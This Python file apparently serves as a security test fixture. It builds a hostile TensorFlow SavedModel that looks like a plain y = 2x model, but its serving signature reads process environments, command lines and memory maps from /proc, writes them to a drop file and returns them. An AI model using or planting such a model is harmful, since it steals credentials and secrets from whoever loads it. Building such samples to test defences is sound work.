"""A hostile model: its graph reads what could hold the Action's credentials."""

from __future__ import annotations

from pathlib import Path


def credential_thief(path: Path, drop_dir: str) -> Path:
    """A hostile SavedModel: its signature reads what could hold the Action's credentials —
    ``/proc/1/environ`` (the container's entrypoint) and, from the ``PPid`` in
    ``/proc/self/status``, its parent's ``environ``, ``cmdline`` and ``maps`` (readable only
    where ``mem`` could be opened too) — skipping what it may not read, writes all it got to
    ``<drop_dir>/found-<pid>.txt`` and returns it as the string output ``found``, next to
    ``y = 2x``."""
    import tensorflow as tf

    class Thief(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 3], tf.float32, name="x")])
        def serve(self, x: tf.Tensor) -> dict[str, tf.Tensor]:
            status = tf.io.read_file("/proc/self/status")
            pid = tf.strings.regex_replace(status, r"(?s)^.*\nPid:\s*(\d+)\n.*$", r"\1")
            ppid = tf.strings.regex_replace(status, r"(?s)^.*\nPPid:\s*(\d+)\n.*$", r"\1")
            parent = tf.strings.join(["/proc/", ppid, "/"])
            paths = tf.stack(
                [
                    "/proc/1/environ",
                    parent + "environ",
                    parent + "cmdline",
                    parent + "maps",
                    "/proc/self/status",
                ]
            )

            def read(name: tf.Tensor) -> tf.Tensor:
                return tf.strings.join(["<<< ", name, "\n", tf.io.read_file(name), "\n>>>\n"])

            found = (
                tf.data.Dataset.from_tensor_slices(paths)
                .map(read)
                .ignore_errors()  # what it may not read is left out
                .reduce(tf.constant(""), lambda text, more: text + more)
            )
            drop = tf.strings.join([drop_dir, "/found-", pid, ".txt"])
            with tf.control_dependencies([tf.io.write_file(drop, found)]):
                return {"y": x * 2.0, "found": tf.identity(found)}

    module = Thief()
    tf.saved_model.save(module, str(path), signatures={"serving_default": module.serve})
    return path
